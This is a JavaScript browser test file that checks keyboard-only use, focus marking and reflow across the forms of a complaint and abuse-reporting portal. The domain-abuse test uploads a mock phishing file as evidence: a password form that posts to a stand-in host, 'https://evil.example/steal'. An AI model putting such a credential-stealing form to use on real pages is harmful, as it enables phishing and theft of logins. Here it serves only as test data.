// Issue 5, keyboard and screen reader: every journey (service complaint, escalation, feedback,
// domain-abuse report, spam complaint) by keyboard alone (Tab, Shift+Tab, Enter, Space, arrow
// keys inside a radio group, typed text, and files picked in the chooser that Enter or Space
// opens; no clicks, no fill), with focus never lost and always visibly marked, and landing on
// <main> after each page change and on the error summary after each refusal; the error
// summary's focus path; and reflow: axe-core and no horizontal scrolling at 320 px wide,
// axe-core at 200 % zoom, for the service complaint's pages and every state of the spam complaint.

import { test } from 'node:test';
import { readFile } from 'node:fs/promises';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';

import { axe, eventually, scenario } from '../support/browser.mjs';
import { RECEIVER_PATH, configWithEndpoint } from '../support/server.mjs';
import { COMPLAINT, answers, fill } from '../support/portal.mjs';

/** The portal's focus colour (--focus in style/main.css), in computed-style form. */
const FOCUS_YELLOW = 'rgb(255, 221, 0)';

/** Where focus is, and how it is drawn. */
function focusState(page) {
  return page.evaluate((yellow) => {
    const el = document.activeElement;
    if (!el || el === document.body || el === document.documentElement) return { lost: true, tag: el?.tagName ?? null };
    // Chromium's date picker button is a Tab stop of its own inside a date input: the input is
    // the active element but neither :focus nor :focus-visible; it must be marked all the same.
    const picker = el.matches('input[type="date"]') && !el.matches(':focus');
    const style = getComputedStyle(el);
    const outline = style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) > 0 && style.outlineColor === yellow;
    const shadow = style.boxShadow !== 'none' && style.boxShadow.includes(yellow);
    const background = style.backgroundColor === yellow;
    return {
      lost: false,
      tag: el.tagName.toLowerCase(),
      id: el.id || null,
      href: el.getAttribute('href'),
      text: (el.textContent ?? '').replace(/\s+/g, ' ').trim().slice(0, 60),
      label: el.labels?.[0]?.textContent.replace(/\s+/g, ' ').trim() ?? null,
      picker,
      focusVisible: el.matches(':focus-visible'),
      indicator: outline || shadow || background,
      style: { outline: `${style.outlineStyle} ${style.outlineWidth} ${style.outlineColor}`, boxShadow: style.boxShadow, background: style.backgroundColor },
    };
  }, FOCUS_YELLOW);
}

/** Focus is on an element (not <body>) and drawn with the portal's focus style. */
async function assertFocused(page, step) {
  const state = await focusState(page);
  assert.equal(state.lost, false, `${step}: focus is lost (document.activeElement is ${state.tag})`);
  assert.ok(state.indicator, `${step}: no visible focus indicator on ${JSON.stringify(state)}`);
  return state;
}

/** After a navigation or an error, waits (a frame or two) for focus to land, then checks it. */
async function assertFocusLands(page, step, expected = () => true) {
  const state = await eventually(`${step}: focus on an expected element`, async () => {
    const now = await focusState(page);
    return !now.lost && expected(now) ? now : null;
  });
  return assertFocused(page, step).then(() => state);
}

/** Presses `key` (Tab or Shift+Tab) until `wanted(focus)`; every intermediate stop is checked too. */
async function tabTo(page, what, wanted, { key = 'Tab', max = 30 } = {}) {
  for (let presses = 1; presses <= max; presses += 1) {
    await page.keyboard.press(key);
    const state = await assertFocused(page, `${key} #${presses} towards ${what}`);
    if (wanted(state)) return state;
  }
  assert.fail(`${what} not reached within ${max} presses of ${key}`);
}

const heading = (page, name) => page.getByRole('heading', { level: 1, name }).waitFor();
const path = (page) => new URL(page.url()).pathname;

/** From the start page (already loaded), by keyboard: Tab to the service-complaint link, Enter. */
async function keyboardOpenForm(page) {
  await tabTo(page, 'the service-complaint link', (f) => f.tag === 'a' && f.text === 'Complain about our service');
  await page.keyboard.press('Enter');
  await heading(page, 'Service complaint');
  assert.equal(path(page), '/service_complaint');
  await assertFocusLands(page, 'the form after following the link');
  await axe(page, 'the form, focus on <main> after keyboard navigation');
}

scenario(test, 'the service complaint can be completed by keyboard alone, focus always visible', { config: configWithEndpoint() }, async ({ page, server }) => {
  await page.goto('/');
  await heading(page, 'Make a complaint or report abuse');
  await keyboardOpenForm(page);

  // The fields in tab order, each typed into; Shift+Tab and Tab back again on the way.
  const order = ['name', 'email', 'phone', 'domains', 'description'];
  for (const id of order) {
    await tabTo(page, `the field #${id}`, (f) => f.id === id);
    await page.keyboard.type(COMPLAINT[id]);
  }
  await page.keyboard.press('Shift+Tab');
  await assertFocused(page, 'Shift+Tab from the description');
  await tabTo(page, 'the description again', (f) => f.id === 'description');

  const continueButton = await tabTo(page, 'Continue', (f) => f.tag === 'button' && f.text === 'Continue');
  assert.ok(continueButton.focusVisible, 'Continue matches :focus-visible');
  await page.keyboard.press('Enter');
  await heading(page, 'Check your answers before sending');
  assert.equal(path(page), '/service_complaint/check');
  await assertFocusLands(page, 'the check page after Continue', (f) => f.tag === 'main');
  // A regression guard: <main tabindex="-1"> holds keyboard focus after each page change; once
  // the generic `[tabindex]:focus-visible` rule painted it yellow, and the check page's "Change"
  // links and the receipt's "Make another complaint" link fell to 3.83:1 on it (WCAG 1.4.3 wants
  // 4.5:1). `.main:focus-visible` now marks it with an outline only.
  await axe(page, 'the check page, focus on <main> after keyboard navigation');
  const shown = await answers(page);
  assert.equal(shown['Your name'], COMPLAINT.name);
  assert.equal(shown['Email address'], COMPLAINT.email);
  assert.equal(shown['Phone number'], COMPLAINT.phone);
  assert.equal(shown['Affected domain(s)'], 'bücher.de (xn--bcher-kva.de)');
  assert.equal(shown['Description of the problem'], COMPLAINT.description, 'typed text, line break included, arrived');

  await tabTo(page, 'Send complaint', (f) => f.tag === 'button' && f.text === 'Send complaint');
  assert.equal(server.posts().length, 0, 'nothing sent before Enter on "Send complaint"');
  await page.keyboard.press('Enter');
  await heading(page, 'Complaint sent');
  assert.equal(path(page), '/service_complaint/receipt');
  await page.getByText('T-1', { exact: true }).waitFor();
  await assertFocusLands(page, 'the receipt after sending', (f) => f.tag === 'main');
  await axe(page, 'the receipt, focus on <main> after keyboard navigation');
  assert.equal(server.posts().length, 1, 'exactly one POST');
  assert.equal(server.posts()[0].json.complainant.name, COMPLAINT.name);

  // The receipt's controls are reachable too; Space on the focused "Download a copy" button works.
  await tabTo(page, 'Download a copy', (f) => f.tag === 'button' && f.text === 'Download a copy (.eml)');
  const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Space')]);
  assert.match(download.suggestedFilename(), /^complaint-[0-9a-f]{8}\.eml$/);
  await assertFocused(page, 'after Space on "Download a copy"');
});

scenario(test, 'Enter on Continue with empty fields focuses the error summary; its links lead to the fields', { config: configWithEndpoint() }, async ({ page, server }) => {
  await page.goto('/');
  await heading(page, 'Make a complaint or report abuse');
  await keyboardOpenForm(page);

  await tabTo(page, 'Continue', (f) => f.tag === 'button' && f.text === 'Continue');
  await page.keyboard.press('Enter');
  await page.getByRole('alert').getByRole('heading', { name: 'There is a problem' }).waitFor();
  assert.equal(path(page), '/service_complaint');
  await assertFocusLands(page, 'the error summary after Continue', (f) => f.id === 'error-summary');
  await axe(page, 'the form with the focused error summary');

  await page.keyboard.press('Tab');
  const first = await assertFocused(page, 'Tab from the error summary');
  assert.equal(first.tag, 'a', `Tab from the error summary reaches a link: ${JSON.stringify(first)}`);
  assert.equal(first.href, '#name');
  assert.equal(first.text, 'Enter your name.');
  await page.keyboard.press('Enter');
  await assertFocusLands(page, 'the name field after Enter on its error link', (f) => f.id === 'name');
  assert.equal(path(page), '/service_complaint');

  // Back to the summary and on to the second error link: Shift+Tab then Tab.
  await tabTo(page, 'the email error link', (f) => f.href === '#email', { key: 'Shift+Tab' });
  await page.keyboard.press('Enter');
  await assertFocusLands(page, 'the email field after Enter on its error link', (f) => f.id === 'email');
  assert.equal(server.posts().length, 0);
});

/** Start page, form with the error summary, check page and receipt, each checked by `check`. */
async function walkThePages(page, check) {
  await page.goto('/');
  await heading(page, 'Make a complaint or report abuse');
  await check('start page');

  await page.getByRole('link', { name: 'Complain about our service' }).click();
  await heading(page, 'Service complaint');
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('alert').getByRole('heading', { name: 'There is a problem' }).waitFor();
  await check('form with the error summary');

  await fill(page, { ...COMPLAINT, domains: 'bücher.de, a-very-long-domain-name-without-any-break-opportunity.example' });
  await page.getByRole('button', { name: 'Continue' }).click();
  await heading(page, 'Check your answers before sending');
  await check('check page');

  await page.getByRole('button', { name: 'Send complaint' }).click();
  await heading(page, 'Complaint sent');
  await page.getByText('T-1', { exact: true }).waitFor();
  await check('receipt');
}

/** Fails if the document scrolls sideways at this width. */
async function assertNoHorizontalScroll(page, width, label) {
  const { scrollWidth, wide } = await page.evaluate(() => ({
    scrollWidth: document.documentElement.scrollWidth,
    // What sticks out, to name it when the assertion fails.
    wide: [...document.querySelectorAll('body *')]
      .filter((el) => el.getBoundingClientRect().right > document.documentElement.clientWidth + 0.5)
      .slice(0, 5)
      .map((el) => `${el.tagName.toLowerCase()}${el.id ? `#${el.id}` : ''}${el.className ? `.${String(el.className).split(' ').join('.')}` : ''} (right ${Math.round(el.getBoundingClientRect().right)})`),
  }));
  assert.ok(scrollWidth <= width, `${label}: scrolls horizontally at ${width} px (scrollWidth ${scrollWidth}); too wide: ${wide.join(', ')}`);
}

scenario(test, 'at 320 px wide every page passes axe and nothing scrolls sideways', { config: configWithEndpoint(), contextOptions: { viewport: { width: 1280, height: 800 } } }, async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 800 });
  await walkThePages(page, async (label) => {
    assert.equal(await page.evaluate(() => window.innerWidth), 320);
    await assertNoHorizontalScroll(page, 320, `${label} at 320 px`);
    await axe(page, `${label} at 320 px`);
  });
});

scenario(
  test,
  'at 200 % zoom (640 CSS px, device scale 2) every page passes axe and nothing scrolls sideways',
  { config: configWithEndpoint(), contextOptions: { viewport: { width: 640, height: 400 }, deviceScaleFactor: 2 } },
  async ({ page }) => {
    await walkThePages(page, async (label) => {
      assert.equal(await page.evaluate(() => window.devicePixelRatio), 2);
      await assertNoHorizontalScroll(page, 640, `${label} at 200 %`);
      await axe(page, `${label} at 200 %`);
    });
  },
);

// ---------------------------------------------------------------------------------------------
// The other journeys by keyboard alone. One config with an endpoint for every kind.

const KINDS = ['service_complaint', 'escalation', 'feedback', 'abuse_report', 'spam_complaint'];
const allChannels = () =>
  configWithEndpoint({ channels: Object.fromEntries(KINDS.map((kind) => [kind, { mailbox: `${kind}@example.org`, endpoint: RECEIVER_PATH }])) });

const FIXTURES = new URL('../../../crates/core/tests/fixtures/', import.meta.url);
const sha256 = (buffer) => createHash('sha256').update(buffer).digest('hex');
const HEADERLESS = 'Hello,\n\nbuy cheap watches at https://watches.example/ now!\n';
const HEADERLESS_ERROR = 'This is only the text of the message: its header lines (Received, From, Date …) are missing.';

/** From a fresh start page, by keyboard: Tab to the link `link`, Enter; focus lands on <main>. */
async function keyboardOpen(page, link, title, pathname) {
  await page.goto('/');
  await heading(page, 'Make a complaint or report abuse');
  await tabTo(page, `the link "${link}"`, (f) => f.tag === 'a' && f.text === link);
  await page.keyboard.press('Enter');
  await heading(page, title);
  assert.equal(path(page), pathname);
  await assertFocusLands(page, `${title}: focus after following the link`, (f) => f.tag === 'main');
}

/** Tabs to each field by id and types its value; a line break (typed Enter) only in a textarea. */
async function typeFields(page, values) {
  for (const [id, text] of Object.entries(values)) {
    const field = await tabTo(page, `the field #${id}`, (f) => f.id === id);
    if (text.includes('\n')) assert.equal(field.tag, 'textarea', `#${id}: Enter in an <input> would submit the form`);
    await page.keyboard.type(text);
  }
}

/** Tabs to the button whose text is `name` and presses `key` on it. */
async function press(page, name, key = 'Enter') {
  await tabTo(page, `the button "${name}"`, (f) => f.tag === 'button' && f.text === name);
  await page.keyboard.press(key);
}

/** Enter on a button that changes the page; focus lands on <main> of the page titled `title`. */
async function pressToPage(page, name, title, pathname) {
  await press(page, name);
  await heading(page, title);
  assert.equal(path(page), pathname);
  await assertFocusLands(page, `${title}: focus after "${name}"`, (f) => f.tag === 'main');
}

/** Enter on Continue with problems left: the error summary shows and holds focus. */
async function pressToErrors(page, firstError) {
  await press(page, 'Continue');
  await page.getByRole('alert').getByRole('link', { name: firstError }).waitFor();
  await assertFocusLands(page, `the error summary ("${firstError}")`, (f) => f.id === 'error-summary');
}

/** Tab from the focused error summary to its first link, Enter: focus lands on the field `id`. */
async function followFirstError(page, text, id) {
  await page.keyboard.press('Tab');
  const link = await assertFocused(page, 'Tab from the error summary');
  assert.deepEqual([link.tag, link.text, link.href], ['a', text.slice(0, 60), `#${id}`]);
  await page.keyboard.press('Enter');
  return assertFocusLands(page, `#${id} after Enter on its error link`, (f) => f.id === id);
}

/** Focuses the file input `id` by Tab, opens its chooser with `key` and picks `files`. */
async function chooseFiles(page, id, key, files) {
  await tabTo(page, `the file input #${id}`, (f) => f.id === id);
  // Headless Chromium now and then drops the chooser a key press asks for (about one CI run in
  // four); the key is pressed again, still by keyboard alone, up to three times.
  let chooser;
  for (let attempt = 1; !chooser; attempt += 1) {
    const opened = page.waitForEvent('filechooser', { timeout: 5_000 }).catch((error) => {
      if (attempt === 3) throw error;
    });
    await page.keyboard.press(key);
    chooser = await opened;
    if (!chooser) await assertFocused(page, `#${id} before pressing ${key} again`);
  }
  assert.equal(await chooser.element().evaluate((el) => el.id), id);
  await chooser.setFiles(files);
  await assertFocused(page, `#${id} after choosing`);
}

/** The local date `days` before today, as `YYYY-MM-DD` and as typed into an en-US date input. */
function daysAgo(days) {
  const date = new Date();
  date.setDate(date.getDate() - days);
  const [y, m, d] = [date.getFullYear(), date.getMonth() + 1, date.getDate()].map((n) => String(n).padStart(2, '0'));
  return { iso: `${y}-${m}-${d}`, keys: `${m}${d}${y}` };
}

scenario(test, 'an escalation inside its window can be completed by keyboard alone, dates typed', { config: allChannels() }, async ({ page, server }) => {
  await keyboardOpen(page, 'Escalate a complaint', 'Escalated complaint', '/escalation');
  await typeFields(page, {
    name: 'Jörg Müller',
    email: 'joerg@example.de',
    domains: 'bücher.de',
    description: 'Der Transfer hängt weiterhin.\nDer Auth-Code wurde abgelehnt.',
    expected_steps: 'Transfer abschließen.',
    previous_reference: 'T-4711',
  });
  // A date input takes typed digits segment by segment (month, day, year in en-US).
  const sent = daysAgo(9);
  const answered = daysAgo(2);
  await typeFields(page, { previous_sent_on: sent.keys, previous_answered_on: answered.keys });
  assert.equal(await page.locator('#previous_sent_on').inputValue(), sent.iso);
  assert.equal(await page.locator('#previous_answered_on').inputValue(), answered.iso);
  await page.getByRole('status').filter({ hasText: 'Your escalation must reach us by' }).waitFor();
  await typeFields(page, { dissatisfaction: 'Ihre Antwort hat das Problem nicht gelöst.' });

  await pressToPage(page, 'Continue', 'Check your answers before sending', '/escalation/check');
  assert.equal((await answers(page))['Reference of your previous complaint'], 'T-4711');
  await pressToPage(page, 'Send complaint', 'Complaint sent', '/escalation/receipt');
  const posts = server.posts();
  assert.equal(posts.length, 1, 'exactly one POST');
  assert.equal(posts[0].json.kind, 'escalation');
  assert.deepEqual(posts[0].json.previous_complaint, { reference: 'T-4711', sent_on: sent.iso, answered_on: answered.iso });
});

scenario(test, 'feedback by keyboard alone: the refusal focuses the summary, its link the message', { config: allChannels() }, async ({ page, server }) => {
  await keyboardOpen(page, 'Send feedback or a suggestion', 'Feedback or suggestion', '/feedback');
  await pressToErrors(page, 'Enter your message.');
  await followFirstError(page, 'Enter your message.', 'description');
  const message = 'Bitte Rechnungen auch als PDF.\nDanke!';
  await page.keyboard.type(message);
  await pressToPage(page, 'Continue', 'Check your answers before sending', '/feedback/check');
  assert.equal((await answers(page))['Your message'], message);
  await pressToPage(page, 'Send feedback', 'Feedback sent', '/feedback/receipt');
  const posts = server.posts();
  assert.equal(posts.length, 1, 'exactly one POST');
  assert.equal(posts[0].json.kind, 'feedback');
  assert.equal(posts[0].json.description, message);
});

scenario(test, 'a domain-abuse report by keyboard alone: radios by Space and arrows, evidence by the chooser', { config: allChannels() }, async ({ page, server }) => {
  await keyboardOpen(page, 'Report domain abuse', 'Domain abuse report', '/abuse_report');
  await typeFields(page, { email: 'anna@example.de' });
  await pressToErrors(page, 'Choose the kind of abuse.');
  const radio = await followFirstError(page, 'Choose the kind of abuse.', 'abuse_category');
  assert.equal(radio.tag, 'input');
  const checked = () => page.locator('input[name="abuse_category"]:checked').evaluateAll((inputs) => inputs.map((i) => i.value));
  // Space checks the focused radio; the arrow keys move focus and the choice within the group.
  await page.keyboard.press('Space');
  assert.deepEqual(await checked(), ['phishing']);
  await page.keyboard.press('ArrowDown');
  assert.equal((await assertFocused(page, 'ArrowDown in the radio group')).id, 'abuse_category-malware');
  assert.deepEqual(await checked(), ['malware']);
  await page.keyboard.press('ArrowUp');
  assert.equal((await assertFocused(page, 'ArrowUp in the radio group')).id, 'abuse_category');
  assert.deepEqual(await checked(), ['phishing']);

  await typeFields(page, { domains: 'https://login.bank-example.de/verify?id=1\nevil.example', description: 'Gefälschte Anmeldeseite einer Bank.' });
  const files = [
    { name: 'fake-login.html', mimeType: 'text/html', buffer: Buffer.from('<form action="https://evil.example/steal">Passwort: <input></form>\n') },
    { name: 'note.txt', mimeType: 'text/plain', buffer: Buffer.from('gesehen am 1. Mai\n') },
  ];
  await chooseFiles(page, 'evidence', 'Space', files);
  await page.waitForFunction(() => document.querySelectorAll('#evidence-list li').length === 2);

  await pressToPage(page, 'Continue', 'Check your answers before sending', '/abuse_report/check');
  assert.equal((await answers(page))['Kind of abuse'], 'Phishing (fake pages that steal credentials)');
  await pressToPage(page, 'Send report', 'Report sent', '/abuse_report/receipt');
  const posts = server.posts();
  assert.equal(posts.length, 1, 'exactly one POST');
  assert.equal(posts[0].json.abuse_category, 'phishing');
  assert.deepEqual(posts[0].json.evidence.map((file) => [file.name, file.sha256]), files.map((file) => [file.name, sha256(file.buffer)]));
});

scenario(test, 'a spam complaint by keyboard alone: typed text refused, a file by the chooser, a suggestion by Space', { config: allChannels() }, async ({ page, server }) => {
  await keyboardOpen(page, 'Complain about spam', 'Spam complaint', '/spam_complaint');
  await typeFields(page, { name: 'Alice Müller', email: 'alice@recipient.example', spam_message: HEADERLESS });
  // Typed text is taken when the field is left: here, on the way to Continue.
  await pressToErrors(page, HEADERLESS_ERROR);
  await page.locator('#spam-guidance').getByText('Thunderbird:', { exact: false }).waitFor();
  await followFirstError(page, HEADERLESS_ERROR, 'spam_message');

  const bytes = await readFile(new URL('multi-hop.eml', FIXTURES));
  await chooseFiles(page, 'spam_message_file', 'Enter', [{ name: 'spam.eml', mimeType: 'message/rfc822', buffer: bytes }]);
  await page.getByRole('region', { name: 'What the message shows' }).waitFor();
  assert.equal(await page.locator('#spam-guidance').count(), 0, 'the guidance goes with the refused text');

  // The suggestion fills the target and moves focus there, visibly.
  await press(page, 'Use bulk-sender.example', 'Space');
  const target = await assertFocusLands(page, 'the target after its suggestion', (f) => f.id === 'spam_target');
  assert.equal(target.label, 'Domain or mail server you are complaining about');
  assert.equal(await page.locator('#spam_target').inputValue(), 'bulk-sender.example');

  await pressToPage(page, 'Continue', 'Check your answers before sending', '/spam_complaint/check');
  await pressToPage(page, 'Send complaint', 'Complaint sent', '/spam_complaint/receipt');
  const posts = server.posts();
  assert.equal(posts.length, 1, 'exactly one POST');
  assert.equal(posts[0].json.kind, 'spam_complaint');
  assert.equal(posts[0].json.spam.message.sha256, sha256(bytes));
  assert.equal(posts[0].json.spam.target.domain.ascii, 'bulk-sender.example');
});

/** Every state of the spam complaint, each checked by `check`: empty form, the header-less
 *  refusal with its guidance, the summary with suggestions, the check page, the receipt. */
async function walkTheSpamPages(page, check) {
  await page.goto('/spam_complaint');
  await heading(page, 'Spam complaint');
  await check('empty spam form');

  await page.getByLabel('Your name').fill('Alice Müller');
  await page.getByLabel('Email address').fill('alice@recipient.example');
  await page.getByLabel('Or choose the message as a file (.eml, .txt)').setInputFiles({ name: 'body.txt', mimeType: 'text/plain', buffer: Buffer.from(HEADERLESS) });
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('alert').getByRole('link', { name: HEADERLESS_ERROR }).waitFor();
  await page.locator('#spam-guidance').waitFor();
  await check('spam form, header-less message with the guidance');

  const bytes = await readFile(new URL('multi-hop.eml', FIXTURES));
  await page.getByLabel('Or choose the message as a file (.eml, .txt)').setInputFiles({ name: 'spam.eml', mimeType: 'message/rfc822', buffer: bytes });
  await page.getByRole('button', { name: 'Use bulk-sender.example' }).waitFor();
  await check('spam form with the summary and its suggestions');

  await page.getByRole('button', { name: 'Use bulk-sender.example' }).click();
  await page.getByRole('button', { name: 'Continue' }).click();
  await heading(page, 'Check your answers before sending');
  await check('spam check page');

  await page.getByRole('button', { name: 'Send complaint' }).click();
  await heading(page, 'Complaint sent');
  await check('spam receipt');
}

scenario(test, 'at 320 px wide every state of the spam complaint passes axe and nothing scrolls sideways', { config: allChannels(), contextOptions: { viewport: { width: 320, height: 800 } } }, async ({ page }) => {
  await walkTheSpamPages(page, async (label) => {
    assert.equal(await page.evaluate(() => window.innerWidth), 320);
    await assertNoHorizontalScroll(page, 320, `${label} at 320 px`);
    await axe(page, `${label} at 320 px`);
  });
});

scenario(
  test,
  'at 200 % zoom every state of the spam complaint passes axe and nothing scrolls sideways',
  { config: allChannels(), contextOptions: { viewport: { width: 640, height: 400 }, deviceScaleFactor: 2 } },
  async ({ page }) => {
    await walkTheSpamPages(page, async (label) => {
      assert.equal(await page.evaluate(() => window.devicePixelRatio), 2);
      await assertNoHorizontalScroll(page, 640, `${label} at 200 %`);
      await axe(page, `${label} at 200 %`);
    });
  },
);
